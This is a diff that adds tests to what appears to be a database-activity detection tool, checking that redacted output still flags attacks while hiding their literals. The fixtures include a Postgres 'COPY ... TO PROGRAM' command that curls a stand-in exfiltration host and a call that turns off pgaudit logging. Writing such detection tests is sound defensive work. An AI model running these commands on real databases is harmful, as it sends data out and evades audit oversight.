@@ -158,6 +158,33 @@ describe('detect --redact', () => {
   }
 });
 
+describe('detect --redact with the built-in rules: the rules see the SQL as sent', () => {
+  // Each attack lives in a literal, which --redact takes out of what is shown, never out of what the rules see.
+  const attacks = [
+    { title: /[Pp]rogram/, text: `COPY t TO PROGRAM 'curl http://exfil.example/drop'`, literal: 'exfil.example' },
+    { title: /audit/i, text: `SELECT set_config('pgaudit.log', 'none', false)`, literal: 'pgaudit.log' },
+  ];
+  for (const attack of attacks) {
+    const line = JSON.stringify({
+      ...postgresEvent(1, { command: 'SELECT', commandText: attack.text, paramList: [] }),
+      clusterId: 'cluster-A',
+      instanceId: 'db-B',
+      eventId: 's:1:1',
+    });
+    for (const output of ['pretty', 'ocsf', 'asff']) {
+      it(`finds ${JSON.stringify(attack.text)} and shows none of its literals, -o ${output}`, async () => {
+        const place = output === 'asff' ? ['--account-id', '123456789012', '--region', 'eu-west-1'] : [];
+        const io = memoryIO({ input: `${line}\n` });
+        const code = await run(['detect', '--redact', '-o', output, ...place, '-'], io);
+        expect(code, io.stderr.text).toBe(ExitCode.ok);
+        expect(io.stdout.text).toMatch(attack.title);
+        expect(io.stdout.text).not.toContain(attack.literal);
+        expect(io.stdout.text).not.toContain('none');
+      });
+    }
+  }
+});
+
 describe('detect says what the correlations could not do', () => {
   it('warns of events a correlation rule could not place in time', async () => {
     const line = JSON.stringify({
